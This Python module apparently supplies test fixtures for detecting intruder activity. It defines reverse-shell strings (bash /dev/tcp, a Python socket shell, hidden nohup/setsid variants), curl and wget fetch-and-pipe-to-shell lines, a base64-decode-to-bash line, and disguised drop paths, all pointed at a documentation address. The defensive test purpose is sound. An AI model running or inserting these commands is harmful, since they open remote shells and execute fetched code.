"""What intruders let run: the shapes of PANIX, and others. The addresses belong to nobody."""

from __future__ import annotations

from typing import Final

from plantings.case import Act, both, run
from pratique.demo.program import binary, script

ADDRESS: Final = "198.51.100.7"
TO: Final = f"/dev/tcp/{ADDRESS}/1337"

SH_BACK: Final = f"/bin/bash -c 'sh -i >& {TO} 0>&1'"
BASH_BACK: Final = f"bash -c 'bash -i >& {TO} 0>&1'"
NOHUP_BACK: Final = f"nohup setsid {BASH_BACK} & disown"
HIDDEN_BACK: Final = f"(nohup setsid /bin/{BASH_BACK} > /dev/null 2>&1 &) &"
FETCH: Final = f"curl -fsSL http://{ADDRESS}/u | sh"
FETCH_QUIET: Final = f"wget -qO- http://{ADDRESS}/u.sh | bash >/dev/null 2>&1"
# The words behind it are `echo nothing`.
DECODE: Final = "echo ZWNobyBub3RoaW5n | base64 -d | bash"
PYTHON_BACK: Final = (
    "python3 -c 'import socket,subprocess,os;s=socket.socket();"
    f's.connect(("{ADDRESS}",1337));[os.dup2(s.fileno(),f) for f in (0,1,2)];'
    'subprocess.call(["/bin/sh","-i"])\''
)

HIDDEN: Final = "/var/tmp/.cache/kworker"
SHM: Final = "/dev/shm/.x/agent"


def program(path: str) -> Act:
    """The act of dropping a program there: an ELF that no kernel starts."""
    return run(path, binary(path))


def hidden() -> Act:
    """The act of dropping the program in a hidden folder of /var/tmp."""
    return program(HIDDEN)


def tool(path: str) -> Act:
    """The act of putting an administrator's own little script there."""
    return run(path, script(path.rpartition("/")[2]))


def with_tool(path: str, act: Act) -> Act:
    """`act`, and the administrator's own script that it names."""
    return both(act, tool(path))


def with_program(path: str, act: Act) -> Act:
    """`act`, and the dropped program that it names."""
    return both(act, program(path))
